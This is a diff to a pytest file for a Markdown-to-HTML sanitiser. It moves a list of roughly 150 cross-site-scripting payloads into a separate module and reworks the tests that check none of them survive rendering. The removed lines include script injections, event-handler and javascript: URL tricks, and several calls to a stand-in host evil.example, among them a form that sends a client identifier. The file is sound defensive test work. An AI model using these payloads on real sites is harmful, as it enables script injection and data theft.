@@ -12,6 +12,7 @@ import pytest
 from annotation.highlighting import LANGUAGES, highlight
 from annotation.prose import ATTRIBUTES, CLASSES, TAGS, VALUES, folded, language_of, to_html
 from annotation.templatetags.text import markdown
+from tests.attacks import ATTACKS, KINDS, whole
 
 
 class Reader(HTMLParser):
@@ -58,177 +59,31 @@ def not_allowed(html: str) -> set[tuple[str, str]]:
     return read(html).found - ALLOWED
 
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\n>alert(1)</script\n>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    '<a href="javascript:alert(1)">click</a>',
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](java&#10;script:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[click](vbscript:msgbox(1))",
-    "[click](https://example.com 'onmouseover=alert(1)')",
-    '[a](<javascript:alert(1)> "title")',
-    "[click][ref]\n\n[ref]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "<https://evil.example>",
-    "https://evil.example",
-    "![pixel](https://evil.example/seen.gif)",
-    '![x](x"onerror="alert(1))',
-    '![x](data:image/svg+xml,<svg onload="alert(1)">)',
-    "<svg onload=alert(1)>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<style>*{background:url(//evil.example)}</style>",
-    '<p style="background:url(//evil.example)" class="x" id="main">',
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=evil.swf></object><embed src=evil>",
-    "<form action=//evil.example><input name=client_uuid><button>Submit</button></form>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example/>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?>",
-    "<!DOCTYPE html>",
-    "<details open ontoggle=alert(1)>",
-    "<div hx-get='/admin/' hx-trigger=load data-submit>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
-    "```html\n<script>alert(1)</script>\n```",
-    '```"onmouseover=alert(1)\n\n```',
-    "`<img src=x onerror=alert(1)>`",
-    "> * 1. <script>alert(1)</script>\n>   > ![x](javascript:alert(1))",
-    "| <script> | b |\n|:---|---:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
-    "**[*`<svg/onload=alert(1)>`*](javascript:alert(1))**",
-    "# <img src=x onerror=alert(1)>\n\n<b>x</b>\n===",
-    "<b\0>x</b\0><scr\0ipt>alert(1)</scr\0ipt>",
-    "\x00<script>\x00",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\u202e<script>\u2028alert(1)",
-    "＜script＞alert(1)＜/script＞",
-    "<%73cript>",
-    "</p></div></textarea></main><script>alert(1)</script>",
-    # in code, formulas, tables and their edges
-    "```js\n</code></pre><script>alert(1)</script>\n```",
-    '```python\n"""</span><img src=x onerror=alert(1)>"""\n```',
-    "```python\n# <script>alert(1)</script>\n```",
-    "```html\n<img src=x onerror=alert(1)>\n<!-- <script>alert(1)</script> -->\n```",
-    "```xml\n<a onclick='alert(1)'>\n```",
-    "```diff\n+<script>alert(1)</script>\n-<img src=x onerror=alert(1)>\n```",
-    "```tex\n\\href{javascript:alert(1)}{<b>x</b>}\n```",
-    "```yaml\n<script>: alert(1)\n```",
-    '```json\n{"<script>": "</script>"}\n```',
-    "```sql\n-- <svg onload=alert(1)>\n```",
-    "```css\na{background:url('javascript:alert(1)')}\n</style><script>alert(1)</script>\n```",
-    '```python" onmouseover="alert(1)\nx\n```',
-    "```python class=x onclick=alert(1)\nx\n```",
-    "```<script>alert(1)</script>\nx\n```",
-    "```__proto__\nx\n```",
-    "~~~js\n`</code>${alert(1)}`\n~~~",
-    "    <script>alert(1)</script>",
-    "\t<img src=x onerror=alert(1)>",
-    "$<script>alert(1)</script>$",
-    "$$<img src=x onerror=alert(1)>$$",
-    "$$\n</p><script>alert(1)</script>\n$$",
-    "\\(<svg onload=alert(1)>\\)",
-    "\\[\n<iframe src=javascript:alert(1)>\n\\]",
-    '\\("onmouseover="alert(1)\\)',
-    "$a$<script>$b$",
-    "\\href{javascript:alert(1)}{x}",
-    "$\\unicode{<script>}$",
-    "| a |\n|---|\n| </td></table><script>alert(1)</script> |",
-    '| a" onclick="alert(1) |\n|---|\n| b |',
-    '| a |\n|:-" onload=alert(1)-:|\n| b |',
-    "|`<script>`|$<script>$|\n|---|---|",
-    '3" onclick="alert(1). a',
-    "999999999. <b>a</b>",
-    # in the spelling of tags
-    "<svg/onload=alert(1)>",
-    "<svg\x0conload=alert(1)>",
-    "<svg\tonload\n=\nalert(1)>",
-    "<<script>alert(1)//<</script>",
-    "<script/random>alert(1)</script>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "<img src=`x` onerror=`alert(1)`>",
-    '<img """><script>alert(1)</script>">',
-    '<a href="jav&#x09;ascript:alert(1)">x</a>',
-    '<a href="\x01javascript:alert(1)">x</a>',
-    "<a xlink:href=javascript:alert(1)>x</a>",
-    "<video><source onerror=alert(1)>",
-    "<audio src=x onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<textarea autofocus onfocus=alert(1)></textarea>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<isindex type=image src=1 onerror=alert(1)>",
-    "<frameset onload=alert(1)>",
-    "<table background=javascript:alert(1)>",
-    "<div style=width:expression(alert(1))>",
-    "<math href=javascript:alert(1)>x</math>",
-    "<animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<set attributeName=href to=javascript:alert(1)>",
-    "<foreignObject><script>alert(1)</script></foreignObject>",
-    '<title><img title="</title><img src=x onerror=alert(1)>">',
-    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
-    "<plaintext><script>alert(1)</script>",
-    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
-    "<form id=x></form><button form=x formaction=javascript:alert(1)>",
-    "<label for=edit-text>click</label><output name=verdict>",
-    "<a id=label-form name=keys>",
-    "<span class=visually-hidden hidden>x</span>",
-    "<p class=formula dir=rtl tabindex=5 role=alert>",
-    "<custom-element onclick=alert(1)>",
-    "<x onpointerenter=alert(1) style=position:fixed;inset:0>",
-    "<script type=importmap>{}</script>",
-    "<dialog open>x</dialog>",
-    "<portal src=//evil.example>",
-    # in what Markdown makes of things
-    "[a](java\\script:alert(1))",
-    "[a](\x01javascript:alert(1))",
-    "[a](javascript&colon;alert(1))",
-    "[a]( javascript:alert(1) )",
-    "[a](<java\tscript:alert(1)>)",
-    "[<script>alert(1)</script>](x)",
-    "![<script>alert(1)</script>](x)",
-    "[a]: javascript:alert(1) '<script>alert(1)</script>'\n\n[a]",
-    "![a][b]\n\n[b]: data:text/html,<script>alert(1)</script>",
-    "<mailto:a@b.de?body=<script>alert(1)</script>>",
-    "&#x3C;img src=x onerror=alert(1)&#x3E;",
-    "&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#0;&#x110000;&#xD800;<b>",
-    "\\<script>alert(1)\\</script>",
-    "~~<script>~~**</script>**",
-    "`` ` <script> ` ``",
-    "- <script>\n  alert(1)\n  </script>",
-    "> ```js\n> </blockquote><script>alert(1)</script>",
-    "1. $$\n   </ol><script>alert(1)</script>\n   $$",
-]
-
-
-@pytest.mark.parametrize("text", ATTACKS)
-def test_nothing_that_is_written_can_run(text):
-    for spelled in (text, f"Hello *there*\n\n{text}\n\n- and {text}", text.upper(), text * 3):
-        assert not_allowed(to_html(spelled)) == set()
+@pytest.mark.parametrize("kind", KINDS)
+def test_nothing_that_is_written_can_run(kind):
+    for text in KINDS[kind]:
+        for spelled in (text, f"Hello *there*\n\n{text}\n\n- and {text}", text.upper(), text * 3):
+            assert not_allowed(to_html(spelled)) == set()
 
 
 def test_no_mixture_of_attacks_can_run_either():
     draw = random.Random(7)
+    attacks = list(ATTACKS.values())
     glue = ["", "\n", "\n\n", " ", "> ", "- ", "`", "```\n", "**", "|", "[", "](", ")", "<", ">", '"', "'", "&", "\\"]
     for _ in range(600):
-        text = "".join(draw.choice(ATTACKS if draw.random() < 0.4 else glue) for _ in range(12))
+        text = "".join(draw.choice(attacks if draw.random() < 0.4 else glue) for _ in range(12))
         assert not_allowed(to_html(text)) == set(), text
+
+
+def test_what_stands_around_an_attack_is_still_read():
+    for number in ATTACKS:
+        text = read(to_html(whole(number))).text
+        assert text.startswith(f"begin{number}\n")
+        assert text.endswith(f"end{number}\n"), number
+
+
+def test_the_attacks_are_many_and_each_is_there_once():
+    assert len(ATTACKS) == len(set(ATTACKS.values())) >= 150
 
 
 def test_the_reader_sees_what_it_should():
